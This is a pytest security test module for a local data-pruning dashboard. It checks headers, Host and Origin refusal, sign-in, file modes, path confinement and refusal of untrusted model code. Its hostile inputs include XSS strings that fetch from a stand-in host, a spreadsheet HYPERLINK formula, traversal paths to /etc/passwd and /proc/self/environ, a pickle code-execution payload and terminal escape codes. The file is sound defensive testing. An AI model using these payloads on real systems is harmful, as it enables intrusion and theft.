"""The promises of SECURITY.md, which says what is held over HTTP, in a real browser, in a command of its own, or by a call."""

from __future__ import annotations

import http.client
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote, urlencode

import datasets
import pytest
import torch
import uvicorn
from playwright.sync_api import Browser, Page, TimeoutError
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from streamlit.testing.v1 import AppTest

from pruning.data import access, models, readers
from pruning.data.examples import load
from pruning.errors import BusyError, DataError, ModelError, UsageError
from pruning.experiment import Experiment
from pruning.export import writer
from pruning.files import UMASK
from pruning.jobs import background, worker
from pruning.settings import Settings
from pruning.store.layout import Folder
from pruning.store.lock import own
from pruning.ui.server import signed_links
from pruning.ui.server.guard import COOKIE, PASSWORD, Guard, refusal_to_start
from pruning.ui.server.routes import ROUTES as ROUTES_OF_FILES
from tests.support.browser_setup import find
from tests.support.commands import entry_point
from tests.support.processes import ROOT, dashboard, environment, free_port, score_words, wait_until

pytestmark = pytest.mark.process

SECRET = "correct horse battery"
EVIL = "winnow.invalid"
"""A name that no resolver knows; whatever is asked of it left this machine, or tried to."""

Server = tuple[str, int]


@pytest.fixture(scope="module")
def experiments(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder that the module's dashboard shows."""
    return tmp_path_factory.mktemp("experiments")


@pytest.fixture(scope="module")
def server(experiments: Path) -> Iterator[Server]:
    with dashboard(experiments) as (address, _):
        yield address, int(address.rpartition(":")[2])


def ask(port: int, path: str = "/", method: str = "GET", body: bytes = b"", **headers: str) -> http.client.HTTPResponse:
    """One request; the body is read. Header names are given with _ for -."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.putrequest(method, path, skip_host="Host" in headers)
    for name, value in headers.items():
        connection.putheader(name.replace("_", "-"), value)
    if method == "POST":
        connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body or None)
    answer = connection.getresponse()
    answer.content = answer.read()  # type: ignore[attr-defined]
    connection.close()
    return answer


def websocket(port: int, **headers: str) -> int:
    """The status that a websocket's handshake is answered with: 101 when it is let in."""
    asked = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec_WebSocket_Version": "13",
        "Sec_WebSocket_Key": "d2lubm93d2lubm93d2luIQ==",
    }
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.putrequest("GET", "/_stcore/stream", skip_host="Host" in headers)
    for name, value in {**asked, **headers}.items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    status = connection.getresponse().status
    connection.close()
    return status


ROUTES = ("/", "/frontier", "/_stcore/health", "/_stcore/host-config", "/media/none.png", "/static/none.js", "/download/x", "/none")


@pytest.mark.parametrize("path", ROUTES)
def test_every_answer_forbids_what_a_page_does_not_need(server: Server, path: str) -> None:
    headers = ask(server[1], path).headers
    policy = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
    assert policy["default-src"] == policy["connect-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["object-src"] == policy["frame-src"] == "'none'"
    assert "unsafe-inline" not in policy["script-src"] and "unsafe-eval" not in policy["script-src"].replace("wasm-unsafe-eval", "")
    assert not re.search(r"https?:|\*", headers["content-security-policy"])
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "no-referrer"
    assert "access-control-allow-origin" not in headers


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:8501", "localhost.evil.example", "127.0.0.1.evil.example", "a@localhost", ""]
)
def test_a_name_that_was_made_to_point_here_is_not_answered(server: Server, path: str, host: str) -> None:
    answer = ask(server[1], path, Host=host)
    assert answer.status in (400, 421)
    assert b"streamlit" not in answer.content.lower()  # type: ignore[attr-defined]


def test_other_sites_are_refused_and_the_own_is_not(server: Server) -> None:
    port = server[1]
    own = f"http://127.0.0.1:{port}"
    for origin in ("http://evil.example", "null", "http://localhost:1", f"https://evil.example:{port}", f"file://127.0.0.1:{port}"):
        assert ask(port, Origin=origin).status == 403, origin
        assert websocket(port, Origin=origin) == 403, origin
    assert websocket(port) == 403, "a browser always says where it comes from"
    assert ask(port, Origin=own).status == 200
    assert websocket(port, Origin=own) == 101
    assert websocket(port, Origin=own, Host="evil.example") == 403


def test_two_servers_may_show_one_folder(server: Server, experiments: Path, scored: Experiment) -> None:
    """Both answer, both read the same state, and the second worker is refused whoever starts it."""
    shared = Experiment(scored.folder.root.rename(experiments / "shared"))
    with dashboard(experiments) as (address, _), own(shared.folder):
        two = int(address.rpartition(":")[2])
        assert two != server[1] and ask(server[1]).status == ask(two).status == 200
        with pytest.raises(BusyError, match="in use by another job"):
            background.resume(shared.folder.root)
        with pytest.raises(BusyError, match="in use by another job"):
            worker.frontier(shared.folder.root, ["remove-0"], [], seeds=3)
    assert shared.status().state.value == "done"
    shutil.rmtree(shared.folder.root)


def test_it_listens_on_this_machine_only(server: Server) -> None:
    listening = {
        line.split()[1]
        for name in ("tcp", "tcp6")
        if (path := Path("/proc/net") / name).exists()
        for line in path.read_text().splitlines()[1:]
    }
    at = {address for address in listening if address.endswith(f":{server[1]:04X}") and not address.startswith(("00000000:0000",))}
    assert {address.split(":")[0] for address in at} == {"0100007F"}


@pytest.mark.parametrize(
    ("words", "password", "says"),
    [
        (["--address", "0.0.0.0", "--host", "w.example"], None, f"without a password; set {PASSWORD}"),
        (["--address", "0.0.0.0"], SECRET, "--host"),
        ([], "short", "has 5 characters"),
    ],
)
def test_the_dashboard_refuses_to_start_without_a_password_for_other_machines(
    tmp_path: Path, words: list[str], password: str | None, says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if password is not None:
        monkeypatch.setenv(PASSWORD, password)
    done = entry_point("app", "--experiments", tmp_path, "--port", str(free_port()), *words)
    assert done.returncode == 2 and says in done.stderr and len(done.stderr.splitlines()) == 1


def test_streamlit_s_own_command_does_not_start_open_either(tmp_path: Path) -> None:
    command = [
        sys.executable,
        "-m",
        "streamlit",
        "run",
        str(ROOT / "app.py"),
        "--server.address",
        "0.0.0.0",
        "--server.port",
        str(free_port()),
    ]
    done = subprocess.run(command, cwd=tmp_path, env=environment(), capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode != 0 and "without a password" in done.stderr


def test_addresses_that_need_a_password() -> None:
    assert refusal_to_start("127.0.0.1", None) is None and refusal_to_start("::1", None) is None
    for address in ("0.0.0.0", "::", "192.168.1.5", "", None, "winnow.example"):
        assert "without a password" in str(refusal_to_start(address, None))
        assert refusal_to_start(address, SECRET) is None


def test_with_a_password_nothing_is_answered_without_it(tmp_path: Path) -> None:
    """Pages, files, uploads, downloads and the websocket alike; one guess a second; the session's cookie is kept from scripts."""
    port = free_port()
    command = [sys.executable, "-m", "pruning", "app", "--experiments", str(tmp_path), "--port", str(port)]
    process = subprocess.Popen(command, cwd=ROOT, env=environment(**{PASSWORD: SECRET}), stdout=subprocess.DEVNULL)
    own = f"http://127.0.0.1:{port}"
    try:
        wait_until(lambda: up(port), 60, "the dashboard's start")
        for path in ROUTES:
            answer = ask(port, path)
            assert answer.status == 401 and answer.headers["x-frame-options"] == "DENY"
        assert websocket(port, Origin=own) == 403
        assert websocket(port, Origin=own, Cookie=f"{COOKIE}=guess") == 403
        started = time.monotonic()
        assert sign_in(port, "wrong").status == sign_in(port, "").status == 401
        assert time.monotonic() - started >= 2
        assert sign_in(port, SECRET, Origin="http://evil.example").status == 403
        assert ask(port, "/sign-in", "POST", b"password=" + b"a" * 10_000).status == 413
        welcome = sign_in(port, SECRET)
        cookie = welcome.headers["set-cookie"]
        assert welcome.status == 303 and "HttpOnly" in cookie and "SameSite=strict" in cookie
        session = cookie.split(";")[0]
        assert SECRET not in cookie and len(session) > 40
        assert ask(port, "/", Cookie=session).status == 200
        assert websocket(port, Origin=own, Cookie=session) == 101
    finally:
        process.terminate()
        process.wait(20)


def test_many_wrong_passwords_do_not_delay_the_right_one(tmp_path: Path) -> None:
    """120 wrong passwords at once took the right one two minutes; now each waits by itself, and after 200 one a second is looked at."""
    routes = [Route("/", lambda request: PlainTextResponse("in"))]
    app = Starlette(routes=routes, middleware=[Middleware(Guard, hosts=["localhost", "127.0.0.1"], password=SECRET)])
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="warning"))
    thread = threading.Thread(target=server.run)
    thread.start()
    try:
        wait_until(lambda: up(port), 30, "the server's start")
        with ThreadPoolExecutor(120) as pool:
            started = time.monotonic()
            wrong = [pool.submit(sign_in, port, f"wrong {number}") for number in range(120)]
            time.sleep(0.3)
            assert sign_in(port, SECRET).status == 303 and time.monotonic() - started < 3
            assert {answer.result().status for answer in wrong} == {401}
            more = [pool.submit(sign_in, port, f"wrong {number}") for number in range(120)]
            statuses = [answer.result().status for answer in more]
        assert 75 <= statuses.count(401) <= 95 and statuses.count(429) == 120 - statuses.count(401)
    finally:
        server.should_exit = True
        thread.join()


def test_what_winnow_creates_is_for_its_user_alone(
    reviews: tuple[Path, Path], tiny: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Experiment, log, cache, export: 0700 and 0600; WINNOW_UMASK shares them with the group; a library call keeps the folder private."""
    train, evaluation = reviews
    data = ["score", train, "--eval", evaluation, "--model", tiny, "--runs", "2", "--epochs", "1", "--learning-rate", "5e-3"]
    for shared, folders, files in (("", 0o700, 0o600), ("027", 0o750, 0o640)):
        monkeypatch.setenv(UMASK, shared)
        made = tmp_path / f"made{shared}" / "mine"
        for words in ([*data, "--experiment", made], ["audit", made], ["save", made, "full", "all"], ["export", made]):
            done = entry_point(*words)
            assert done.returncode == 0, done.stderr
        modes = {path: path.stat().st_mode & 0o777 for path in (made.parent, made, *made.rglob("*"))}
        assert {oct(mode) for path, mode in modes.items() if path.is_dir()} == {oct(folders)}
        assert {oct(mode) for path, mode in modes.items() if path.is_file()} == {oct(files)}
        assert {"exports", "cache", "dynamics", "jobs"} <= {part for path in modes for part in path.parts}
    monkeypatch.delenv(UMASK)
    background.start(["status", str(tmp_path / "new")], tmp_path / "new").watcher.join()
    assert (tmp_path / "new").stat().st_mode & 0o777 == 0o700
    with own(Folder(tmp_path / "owned")):
        assert (tmp_path / "owned").stat().st_mode & 0o777 == 0o700


STEERING = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202e\u2066\r"
"""Clipboard, a cleared screen, an 8-bit escape, text that runs backwards, a line that is written over."""


@pytest.mark.slow
def test_no_verb_prints_terminal_control_characters(tiny: str, tmp_path: Path) -> None:
    """Texts, class names, column names and file names of data, on stdout and stderr, in tables, errors and warnings alike."""
    words, name = ["good", "great", "bad", "awful"], f"te{STEERING}xt"
    rows = [{name: f"{words[index % 4]} {STEERING} {index // 2}", f"la{STEERING}bel": f"c{STEERING}{index % 2}"} for index in range(40)]
    data = tmp_path / f"d{STEERING[:5]}.jsonl"
    data.write_text("".join(json.dumps(row) + "\n" for row in rows))
    made = str(tmp_path / "made")
    columns = ["--text", name, "--label", f"la{STEERING}bel"]
    score = ["score", str(data), *columns, "--model", tiny, "--experiment", made, "--runs", "2", "--epochs", "1", "--learning-rate", "5e-3"]
    verbs = ([*score], ["audit", made], ["show", made], ["status", made], ["verify", made], ["export", made, "--subset", f"x{STEERING}"])
    printed = b""
    for verb in verbs:
        done = subprocess.run([sys.executable, "-m", "pruning", *verb], cwd=ROOT, env=environment(), capture_output=True)
        assert b"Traceback" not in done.stderr
        assert verb[0] in ("export",) or done.returncode == 0, done.stderr
        printed += done.stdout + done.stderr
    text = printed.decode()
    assert "ZXZpbA==" in text, "the texts themselves are printed"
    assert not [letter for letter in text if not letter.isprintable() and letter not in "\n\t"]


def test_a_wrong_umask_is_refused_in_one_sentence(monkeypatch: pytest.MonkeyPatch) -> None:
    for wrong in ("7", "777", "0o77x", "private"):
        monkeypatch.setenv(UMASK, wrong)
        done = entry_point("status", "x")
        assert done.returncode == 2 and "write three octal digits" in done.stderr and len(done.stderr.splitlines()) == 1


def up(port: int) -> bool:
    try:
        return ask(port).status == 401
    except OSError:
        return False


def sign_in(port: int, password: str, **headers: str) -> http.client.HTTPResponse:
    return ask(port, "/sign-in", "POST", urlencode({"password": password}).encode(), **headers)


# -- paths ----------------------------------------------------------------------------------------------------------------


@pytest.fixture
def confined(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that may be read, beside one that may not."""
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    for folder in (inside, outside):
        folder.mkdir()
        (folder / "rows.jsonl").write_text('{"text": "a", "label": 0}\n{"text": "b", "label": 1}\n')
    (inside / "link.jsonl").symlink_to(outside / "rows.jsonl")
    (inside / "folder").symlink_to(outside)
    (inside / "saved").mkdir()
    (inside / "saved" / "state.json").symlink_to(outside / "rows.jsonl")
    (tmp_path / "inside-too").mkdir()
    shutil.copy(inside / "rows.jsonl", tmp_path / "inside-too")
    monkeypatch.setenv(access.ROOTS, str(inside))
    monkeypatch.chdir(inside)
    return inside


OUTSIDE = (
    "../outside/rows.jsonl",
    "./../outside/rows.jsonl",
    "folder/../../outside/rows.jsonl",
    "{root}/../outside/rows.jsonl",
    "{root}-too/rows.jsonl",
    "link.jsonl",
    "folder/rows.jsonl",
    "saved",
    "{outside}/rows.jsonl",
    "{outside}/rows.jsonl#train",
    "/etc/passwd",
    "/proc/self/environ",
    "/there/is/none.jsonl",
    "~/rows.jsonl",
    "~root/rows.jsonl",
    "rows.jsonl\0.png",
    "C:\\Users\\rows.jsonl",
    "C:rows.jsonl",
    "\\\\server\\share\\rows.jsonl",
    "..\\outside\\rows.jsonl",
    "file:///etc/passwd",
    "https://winnow.invalid/rows.jsonl",
    "hf://datasets/a/b",
)


@pytest.mark.parametrize("name", OUTSIDE)
def test_paths_out_of_the_folders_are_refused(confined: Path, name: str) -> None:
    """Whether there is such a file or not, in the same words; for data and for models."""
    name = name.format(root=confined, outside=confined.parent / "outside")
    for read, error in ((load, DataError), (models.locate, ModelError)):
        with pytest.raises(error, match=r"outside the folders|not a path that the dashboard reads|NUL"):
            read(name)  # type: ignore[operator]


def saved_rows(path: Path) -> Path:
    datasets.Dataset.from_dict({"text": ["a", "b"], "label": [0, 1]}).save_to_disk(path)
    return path


@pytest.mark.parametrize("name", ["../../outside/saved/{file}", "{outside}/saved/{file}", "x/../../../outside/saved/{file}"])
@pytest.mark.parametrize("dashboard", [True, False])
def test_a_saved_folder_that_names_files_of_elsewhere_is_refused(
    confined: Path, monkeypatch: pytest.MonkeyPatch, name: str, dashboard: bool
) -> None:
    """On the command line too: whoever wrote the folder is not the person at the keyboard."""
    if not dashboard:
        monkeypatch.delenv(access.ROOTS)
    outside, folder = saved_rows(confined.parent / "outside" / "saved"), saved_rows(confined / "d")
    assert len(load("d")) == 2
    state = json.loads((folder / "state.json").read_text())
    state["_data_files"].append({"filename": name.format(outside=outside.parent, file=state["_data_files"][0]["filename"])})
    (folder / "state.json").write_text(json.dumps(state))
    for path in (confined / "splits" / "dataset_dict.json", confined / "dictionary" / "dataset_dict.json"):
        path.parent.mkdir()
        path.write_text(json.dumps({"splits": ["train" if path.parent.name == "splits" else name.format(outside=outside, file="")]}))
    (confined / "splits" / "train").symlink_to(folder)
    for read in ("d", "splits", "dictionary"):
        with pytest.raises(DataError, match="which is not a file within it"):
            load(read)
    with pytest.raises(DataError, match="which is not a file within it"):
        readers.splits("dictionary")


def test_no_link_escapes_by_coming_late_or_through_another_folder(confined: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(access, "MOST_INSIDE", 20)
    outside, saved = saved_rows(confined.parent / "outside" / "saved"), saved_rows(confined / "other")
    (confined / "dictionary").mkdir()
    (confined / "dictionary" / "dataset_dict.json").write_text('{"splits": ["train"]}')
    (confined / "dictionary" / "train").symlink_to(saved)
    (confined / "dictionary" / "again").symlink_to(confined / "dictionary")
    assert len(load("dictionary")) == 2
    rows = next(saved.glob("*.arrow"))
    rows.unlink()
    rows.symlink_to(outside / rows.name)
    with pytest.raises(DataError, match="outside the folders"):
        load("dictionary")
    full = saved_rows(confined / "full")
    for number in range(20):
        (full / f"{number}.txt").touch()
    with pytest.raises(DataError, match="more than 20 files"):
        load("full")


def test_a_tilde_after_a_dot_is_not_expanded_to_the_home_folder(confined: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Once checked as it stood and opened with ~ expanded: /score?data=./~/secret.jsonl read the home of whoever ran the server."""
    monkeypatch.setenv("HOME", str(confined.parent / "outside"))
    for name in ("./~/rows.jsonl", "././~/rows.jsonl", f"{confined}/x/../~/rows.jsonl", "x/../~/rows.jsonl"):
        with pytest.raises(DataError, match="There is no file"):
            load(name)
    (confined.parent / "outside" / "config.json").write_text("{}")
    with pytest.raises(ModelError, match="There is no folder"):
        models.locate("./~")
    (confined / "~").mkdir()
    (confined / "~" / "rows.jsonl").write_text('{"text": "own", "label": 0}\n{"text": "own too", "label": 1}\n')
    assert load("./~/rows.jsonl").table["text"].to_pylist() == ["own", "own too"]


def exchanged_after_the_check(monkeypatch: pytest.MonkeyPatch, exchange: Callable[[], None]) -> None:
    """`exchange` happens when a name was found to be allowed, and before anything is opened."""
    resolve = access.resolve

    def resolved(name: str) -> Path | None:
        path = resolve(name)
        exchange()
        return path

    monkeypatch.setattr(access, "resolve", resolved)


@pytest.mark.parametrize("name", ["mine.jsonl", "part/mine.jsonl", "saved-too"])
def test_a_link_that_comes_between_check_and_opening_is_not_followed(confined: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """The file itself, a folder above it, and a file within a saved folder."""
    outside = saved_rows(confined.parent / "outside" / "saved")
    saved_rows(confined / "saved-too")
    (confined / "part").mkdir()
    for path in (confined / "mine.jsonl", confined / "part" / "mine.jsonl"):
        shutil.copy(confined / "rows.jsonl", path)
    shutil.copy(confined / "rows.jsonl", confined.parent / "outside" / "mine.jsonl")
    assert len(load(name)) == 2

    def exchange() -> None:
        target = {"mine.jsonl": confined / "mine.jsonl", "part/mine.jsonl": confined / "part"}.get(name)
        target = target or next((confined / "saved-too").glob("*.arrow"))
        if target.is_symlink():
            return
        if target.is_dir():
            shutil.rmtree(target)
        else:
            target.unlink()
        other = {"mine.jsonl": "mine.jsonl", "part/mine.jsonl": ""}.get(name)
        target.symlink_to(confined.parent / "outside" / other if other is not None else next(outside.glob("*.arrow")))

    exchanged_after_the_check(monkeypatch, exchange)
    with pytest.raises(DataError, match="outside the folders"):
        load(name)


def test_a_model_s_file_that_comes_between_check_and_opening_is_not_followed(
    confined: Path, monkeypatch: pytest.MonkeyPatch, tiny: str
) -> None:
    shutil.copytree(tiny, confined / "model")
    assert models.fingerprint(models.locate("model")) == models.fingerprint(Path(tiny))
    shutil.copytree(tiny, confined / "other")
    shutil.copytree(tiny, confined.parent / "outside" / "model")

    def exchange() -> None:
        weights = confined / "other" / "model.safetensors"
        weights.unlink(missing_ok=True)
        weights.symlink_to(confined.parent / "outside" / "model" / "model.safetensors")

    exchanged_after_the_check(monkeypatch, exchange)
    with pytest.raises(ModelError, match="outside the folders"):
        models.locate("other")


def test_what_is_exchanged_while_it_is_read_changes_nothing(confined: Path) -> None:
    """The path that is handed on leads to the opened file, not to its name."""
    path = confined.resolve() / "rows.jsonl"
    with access.held(path) as opened:
        path.unlink()
        path.symlink_to(confined.parent / "outside" / "config.json")
        assert opened.read_text().startswith('{"text": "a"') and opened.suffix == ".jsonl"
    assert not opened.exists()


def damaged_files(folder: Path, tiny: str) -> list[str]:
    """Write files and folders that cannot be read, each in its own way, and return their names."""
    contents = {
        "lines.jsonl.gz": b"no gzip",
        "two.zip": b"PK no zip",
        "table.parquet": b"PAR1 no table",
        "table.arrow": b"ARROW1 no table",
        "wide.csv": b"a,b\n1,2,3\n",
        "latin.csv": b"text,label\n\xe9,1\n",
        "empty.jsonl": b"",
        "document.json": b"{",
        "other.jsonl": b"PAR1",
    }
    for name, content in contents.items():
        (folder / name).write_bytes(content)
    for name, file in (("dataset", "state.json"), ("splits", "dataset_dict.json")):
        (folder / name).mkdir()
        (folder / name / file).write_text("{")
    (folder / "mixed").mkdir()
    (folder / "mixed" / "a.jsonl").write_bytes(b"{")
    shutil.copytree(tiny, folder / "model")
    return [*contents, "dataset", "splits", "mixed"]


def test_no_message_shows_the_private_path_of_an_opened_file(confined: Path, tiny: str) -> None:
    """Files, folders and models are named as typed, relative or absolute, wherever the error comes from."""
    for name in damaged_files(confined, tiny):
        for typed in (name, str(confined / name), f"./{name}"):
            for read in (load, readers.splits):
                try:
                    read(typed)  # type: ignore[operator]
                except DataError as error:
                    assert str(typed) in str(error) or typed.removeprefix("./") in str(error), error
                    assert access.PRIVATE not in str(error)
                else:
                    assert read is readers.splits
    folder = models.locate("model")
    assert access.PRIVATE in str(folder) and access.as_typed(folder / "config.json") == "model/config.json"
    (folder / "tokenizer.json").unlink()
    with pytest.raises(ModelError, match=r"^model has no tokenizer"):
        models.load_tokenizer(folder)


def test_messages_name_the_file_as_the_user_did(confined: Path) -> None:
    (confined / "bad.jsonl").write_text('{"text": "a", "label": 0}\nnot JSON\n')
    with pytest.raises(DataError, match=r"^bad\.jsonl line 2 is not JSON"):
        load("bad.jsonl")


def test_paths_inside_are_read(confined: Path) -> None:
    for name in ("rows.jsonl", "./rows.jsonl", str(confined / "rows.jsonl"), str(confined / ".." / "inside" / "rows.jsonl")):
        assert len(load(name)) == 2


def test_the_page_refuses_what_the_reader_refuses(confined: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WINNOW_EXPERIMENTS", str(confined))
    app = AppTest.from_file(str(ROOT / "pruning" / "ui" / "main.py"), default_timeout=60).run()
    app.switch_page(str(ROOT / "pages" / "score.py")).run()
    app.text_input(key="data").set_value("/etc/passwd").run()
    assert not app.exception
    assert any("outside the folders" in error.value.replace("\\", "") for error in app.error)
    assert not any("root:" in str(element.value) for element in (*app.text, *app.markdown, *app.error))


@pytest.mark.parametrize("name", ["../../etc", "/etc", "..", ".", "x/../../y", "%2e%2e"])
def test_an_experiment_s_name_in_the_address_is_no_path(scored: Experiment, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv("WINNOW_EXPERIMENTS", str(scored.folder.root.parent))
    app = AppTest.from_file(str(ROOT / "pruning" / "ui" / "main.py"), default_timeout=60)
    app.query_params["experiment"] = name
    app.run()
    assert not app.exception
    [error] = [error.value.replace("\\", "") for error in app.error]
    assert error.startswith(f"This link asks for the experiment {name}, which is not here")
    assert (app.selectbox(key="experiment").value, app.selectbox(key="experiment").options) == (None, ["reviews"])
    assert not app.get("plotly_chart") and not any("root:" in str(element.value) for element in (*app.text, *app.markdown, *app.error))


@pytest.mark.parametrize("name", ["../../../escaped", "/tmp/escaped", "a/b", "..", "x\0y"])
def test_an_export_stays_in_its_folder(scored: Experiment, name: str) -> None:
    from dataclasses import replace

    output = writer.default_output(scored, replace(scored.subset("remove-0"), name=name), "jsonl")
    assert output.resolve().parent.parent == scored.folder.exports.resolve() and "\0" not in str(output)


# -- models and secrets ------------------------------------------------------------------------------------------------------


class Payload:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return os.mkdir, (str(self.path),)


def test_pickled_weights_are_refused_unread(settings: Settings, tiny: str, tmp_path: Path) -> None:
    folder = shutil.copytree(tiny, tmp_path / "model")
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps(Payload(tmp_path / "ran")))
    with pytest.raises(ModelError, match=r"has its weights in pytorch_model\.bin"):
        worker.score(settings.with_changes(model=str(folder)), tmp_path / "x")
    from pruning.training.model import load_network
    from tests.support.tiny import tiny_data

    with pytest.raises(ModelError, match="safetensors"):
        load_network(str(folder), tiny_data([4, 5]), tiny_data([4, 5]).tokens)
    assert not (tmp_path / "ran").exists()


def test_a_checkpoint_that_is_code_is_not_run(tmp_path: Path) -> None:
    from pruning.training import checkpoint

    torch.save({"fingerprint": "f", "value": Payload(tmp_path / "ran"), "records": []}, tmp_path / "c.pt")
    assert checkpoint.load(str(tmp_path / "c.pt"), "f") is None
    assert not (tmp_path / "ran").exists()


def test_a_model_s_own_code_is_not_run(settings: Settings, tiny: str, tmp_path: Path) -> None:
    """auto_map names a Python file beside the weights; it is never imported, for a known architecture or an unknown one."""
    for kind in ("bert", "unheard"):
        folder = shutil.copytree(tiny, tmp_path / kind)
        config = json.loads((folder / "config.json").read_text())
        names = ("AutoConfig", "AutoModel", "AutoModelForSequenceClassification")
        config |= {"model_type": kind, "auto_map": dict.fromkeys(names, "evil.Evil")}
        (folder / "config.json").write_text(json.dumps(config))
        (folder / "evil.py").write_text(f"import os\nos.mkdir({str(tmp_path / 'ran')!r})\n")
        changed = settings.with_changes(model=str(folder), seeds=settings.seeds[:1])
        try:
            worker.score(changed, tmp_path / f"x-{kind}")
        except ModelError as error:
            assert kind == "unheard", error
        assert not (tmp_path / "ran").exists()
    source = "".join(path.read_text() for path in (ROOT / "pruning").rglob("*.py"))
    assert "trust_remote_code=True" not in source and "trust_remote_code=False" in source


def test_the_hub_s_token_is_written_nowhere(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    token = "hf_" + "s3cret" * 6
    more = {"HF_TOKEN": token, "HUGGING_FACE_HUB_TOKEN": token, PASSWORD: SECRET}
    command = [sys.executable, "-m", "pruning", "score", "none/such", "--experiment", str(tmp_path / "y")]
    asked = subprocess.run(command, cwd=ROOT, env=environment(**more), capture_output=True, text=True, timeout=120, check=False)
    for name, value in more.items():
        monkeypatch.setenv(name, value)
    scored = entry_point(*score_words(settings.with_changes(seeds=settings.seeds[:1]), tmp_path / "x"))
    assert (asked.returncode, scored.returncode) == (1, 0)
    for secret in (token, SECRET):
        assert not any(secret in done.stdout + done.stderr for done in (asked, scored))
        assert not [path for path in tmp_path.rglob("*") if path.is_file() and secret.encode() in path.read_bytes()]


# -- hostile data --------------------------------------------------------------------------------------------------------

PAYLOADS = (
    f"<img src=http://{EVIL}/a.png onerror=window.evil=1>",
    f"<script>window.evil=1;fetch('http://{EVIL}/s')</script>",
    f"![a](http://{EVIL}/b.png) [click](javascript:window.evil=1)",
    f"<iframe src=http://{EVIL}></iframe><svg onload=window.evil=1>",
    ":red[warning] :material/delete: :blue-background[x] :small[y]",
    "$\\href{http://" + EVIL + "}{x}$ $$\\int$$",
    f'=HYPERLINK("http://{EVIL}","x")',
    f"<a href='http://{EVIL}/c'>c</a> <b id=evil>bold</b>",
    f"<style>@import 'http://{EVIL}/d.css';</style>",
    "`code` **bold** # heading\n# heading\n- list",
)


@pytest.fixture(scope="module")
def hostile(settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with an experiment of which every cell, label, column and the name itself is a payload."""
    folder = tmp_path_factory.mktemp("hostile")
    names = [payload.replace("\n", " ") for payload in PAYLOADS]
    rows = [
        {
            "sentence": f"{payload} {word} {index}",
            "label": names[index % 2],
            **dict.fromkeys(names[2:6], payload),
            "group": names[index % 10],
        }
        for index, payload in enumerate(PAYLOADS * 8)
        for word in (("good", "bad")[index % 2],)
    ]
    for path, part in ((folder / "train.jsonl", rows), (folder / "evaluation.jsonl", rows[:20])):
        path.write_text("".join(json.dumps(row) + "\n" for row in part))
    changed = settings.with_changes(
        data=str(folder / "train.jsonl"), evaluation=str(folder / "evaluation.jsonl"), columns={"text": "sentence", "label": "label"}
    )
    experiments = folder / "experiments"
    made = worker.score(changed, experiments / ":red[x] $y$ <b id=evil>")
    worker.frontier(made.folder.root, ["random@0.5"], [], seeds=1)
    made.log("failed", state="failed", verb="score", message=PAYLOADS[2] + PAYLOADS[0] + PAYLOADS[4])
    return folder


@pytest.mark.browser
@pytest.mark.skipif(find() is None, reason="no Chromium: apt-get install chromium")
def test_hostile_data_runs_nothing_and_fetches_nothing(hostile: Path, browser: Browser) -> None:
    """Through every page: no script of the data runs, no request leaves or even tries to, nothing of it becomes markup."""
    with dashboard(hostile / "experiments", **{access.ROOTS: str(hostile)}) as (address, _):
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        asked: list[str] = []
        blocked: list[str] = []
        dialogs: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None)
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in addresses(hostile):
            page.goto(f"{address}{path}")
            settled(page)
            touch(page)
            found = page.evaluate(MARKUP, EVIL)
            assert found == [], (path, found)
            assert page.evaluate("window.evil") is None, path
            assert blocked == [] and dialogs == [], (path, blocked, dialogs)
        page.close()
    own = (address, address.replace("http", "ws"), "data:", "blob:")
    assert [url for url in asked if not url.startswith(own)] == []


MARKUP = """evil => [...document.querySelectorAll(`[href*="${evil}"], [src*="${evil}"], [*|href*="${evil}"], #evil, iframe, .katex,
    [data-testid="stMarkdownContainer"] :is(img, svg a, h1 + script), a[href^="javascript"]`)]
    .filter(found => !found.closest('[data-testid="stSidebarNav"]')).map(found => found.outerHTML.slice(0, 200))"""
"""What the payloads would become if they were read as HTML, Markdown, LaTeX or Plotly's tags."""


def addresses(hostile: Path) -> list[str]:
    """Every page, with whatever a link can choose, and with a link that is wrong."""
    pages = sorted(path.stem for path in (ROOT / "pages").glob("*.py"))
    train, column = quote(str(hostile / "train.jsonl")), quote("group")
    chosen = [
        f"/score?data={train}",
        f"/difficulty?stack={column}",
        "/inspect?subset=full&show=all&q=good",
        "/frontier?log=true",
        "/export?subset=full",
    ]
